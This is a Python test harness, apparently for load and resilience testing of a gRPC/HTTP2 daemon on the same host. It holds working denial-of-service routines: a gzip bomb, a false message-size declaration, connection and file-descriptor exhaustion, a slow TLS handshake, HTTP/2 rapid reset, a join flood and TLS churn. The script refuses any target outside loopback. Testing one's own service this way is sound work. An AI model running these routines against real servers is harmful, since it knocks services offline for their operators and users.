"""attackers.py KIND HOST PORT SECONDS: one attack on a daemon; prints what it managed as JSON.

Each stops by itself after SECONDS. Only for a daemon of one's own on this host. gzip_bomb reads its
message from the file GZIP_BOMB (of write_gzip_bomb), because a tenth of the processors would need
longer to compress it than the attack lasts.
"""
import gzip
import json
import os
import pathlib
import socket
import ssl
import struct
import sys
import threading
import time

import http2

JOIN = "/gradwire.v1.AggregationService/Join"
LIE = 512 << 20
PEERS = 64
CONNECTIONS = 6000
STREAMS_AT_ONCE = 16


class Attack:
    """Where to, until when, and what was managed."""

    def __init__(self, host, port, seconds):
        self.address = (host, int(port))
        self.end = time.monotonic() + float(seconds)
        self.counts = {}
        self._lock = threading.Lock()

    def going(self):
        return time.monotonic() < self.end

    def count(self, name, more=1):
        with self._lock:
            self.counts[name] = self.counts.get(name, 0) + more


def busy(attack):
    """No attack: uses its share of the processors, and never connects."""
    while attack.going():
        sum(range(1000))


def size_lie(attack):
    """Declares a message of 512 MiB and sends as much of it as the daemon lets it."""
    junk = bytes(16384)
    while attack.going():
        try:
            with http2.Connection(attack.address) as connection:
                connection.receive(1)
                connection.open_stream(1, JOIN)
                connection.send_data(1, struct.pack(">BI", 0, LIE))
                while attack.going():
                    size = connection.window(1)
                    if size > 0:
                        connection.send_data(1, junk[:size])
                        attack.count("bytes", size)
                    connection.receive(0 if size > 0 else 0.2)
        except (http2.Closed, KeyError):
            attack.count("cut")
        except OSError:
            attack.count("refused")
            time.sleep(0.05)


def size_lie_64(attack):
    """The same from 64 peers at once."""
    threads = [threading.Thread(target=size_lie, args=(attack,)) for _ in range(PEERS)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()


def write_gzip_bomb(path):
    with gzip.open(path, "wb", compresslevel=9) as bomb:
        for _ in range(900):
            bomb.write(bytes(1 << 20))


def gzip_bomb(attack):
    """A megabyte that a decompressor would turn into a gigabyte."""
    bomb = pathlib.Path(os.environ["GZIP_BOMB"]).read_bytes()
    extra = (("grpc-encoding", "gzip"),)
    while attack.going():
        try:
            with http2.Connection(attack.address) as connection:
                connection.receive(1)
                connection.open_stream(1, JOIN, extra)
                data = struct.pack(">BI", 1, len(bomb)) + bomb
                while data and connection.ended == 0 and attack.going():
                    size = connection.window(1)
                    if size > 0:
                        connection.send_data(1, data[:size])
                        data = data[size:]
                        attack.count("bytes", size)
                    connection.receive(0 if size > 0 else 0.2)
                attack.count("refused" if connection.ended else "bombs")
        except (http2.Closed, KeyError, OSError):
            attack.count("cut")


def descriptors(attack):
    """Opens more connections than the daemon allows, finishes the handshake, and says no more."""
    held = []
    while attack.going():
        if len(held) >= CONNECTIONS:
            gone = set(http2.wait_readable(held, 0.5))
            for one in gone:
                try:
                    if one.recv(1 << 16):
                        continue
                except OSError:
                    pass
                one.close()
                held.remove(one)
            continue
        try:
            one = socket.create_connection(attack.address, timeout=2)
            one.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
            one.setblocking(False)
            held.append(one)
            attack.count("connections")
        except OSError:
            attack.count("refused")
            time.sleep(0.01)
    for one in held:
        one.close()


def slow_handshake(attack):
    """Sends one byte of a handshake each 200 ms, on a thousand connections."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    hello = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    first = outgoing.read()
    held = {}
    while attack.going():
        while len(held) < 1000 and attack.going():
            try:
                held[socket.create_connection(attack.address, timeout=2)] = 0
                attack.count("connections")
            except OSError:
                attack.count("refused")
                break
        for one, sent in list(held.items()):
            try:
                one.send(first[sent % len(first) :][:1])
                held[one] = sent + 1
            except OSError:
                attack.count("cut")
                one.close()
                del held[one]
        time.sleep(0.2)


def rapid_reset(attack):
    """Begins calls and resets them at once, faster than a server can count them."""
    block = http2.header_block(JOIN)
    cancel = struct.pack(">I", 8)
    while attack.going():
        try:
            with http2.Connection(attack.address) as connection:
                stream = 1
                while attack.going() and stream < 1 << 30:
                    batch = b"".join(
                        http2.frame(http2.HEADERS, http2.END_HEADERS, one, block)
                        + http2.frame(http2.RST_STREAM, 0, one, cancel)
                        for one in range(stream, stream + 1000, 2))
                    stream += 1000
                    connection.send(batch)
                    attack.count("resets", 500)
                    connection.receive(0)
        except (http2.Closed, OSError):
            attack.count("cut")


def join_messages():
    """Joins of sessions that nobody else will join, as protobuf by hand: version, name, members, start id."""
    number = 0
    while True:
        number += 1
        name = f"flood-{number}".encode()
        parameter = b"\x0a\x01w\x12\x01\x08\x18\x01"
        yield (b"\x08\x01\x10\x7f\x1a" + bytes([len(name)]) + name + b"\x20\x02\x28\x00\x31"
               + struct.pack("<Q", number) + b"\x42" + bytes([len(parameter)]) + parameter)


def join_flood(attack):
    """As many joins as it can, each of another session, over one connection after the other."""
    messages = join_messages()
    while attack.going():
        try:
            with http2.Connection(attack.address) as connection:
                connection.receive(1)
                stream, sent = 1, 0
                while attack.going():
                    free = STREAMS_AT_ONCE - (sent - connection.ended)
                    if free > 0 and connection.connection_window > 1 << 14:
                        connection.send(b"".join(
                            http2.request(stream + 2 * i, JOIN, next(messages)) for i in range(free)))
                        stream, sent = stream + 2 * free, sent + free
                        connection.connection_window -= 64 * free
                        attack.count("joins", free)
                    connection.receive(0.05)
        except (http2.Closed, OSError):
            attack.count("cut")


def tls_churn(attack):
    """Full TLS handshakes, one after the other."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while attack.going():
        try:
            with socket.create_connection(attack.address, timeout=2) as plain:
                with context.wrap_socket(plain) as secured:
                    secured.send(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
                    secured.recv(1 << 14)
                    attack.count("handshakes")
        except OSError:
            attack.count("refused")


KINDS = {function.__name__: function for function in (
    busy, size_lie, size_lie_64, gzip_bomb, descriptors, slow_handshake, rapid_reset, join_flood, tls_churn)}


def main(kind, host, port, seconds):
    attack = Attack(host, port, seconds)
    if not host.startswith("127."):
        sys.exit("attackers.py: only against this host's loopback addresses")
    KINDS[kind](attack)
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    if len(sys.argv) != 5 or sys.argv[1] not in KINDS:
        sys.exit(f"usage: {pathlib.Path(sys.argv[0]).name} {'|'.join(KINDS)} HOST PORT SECONDS")
    main(*sys.argv[1:])
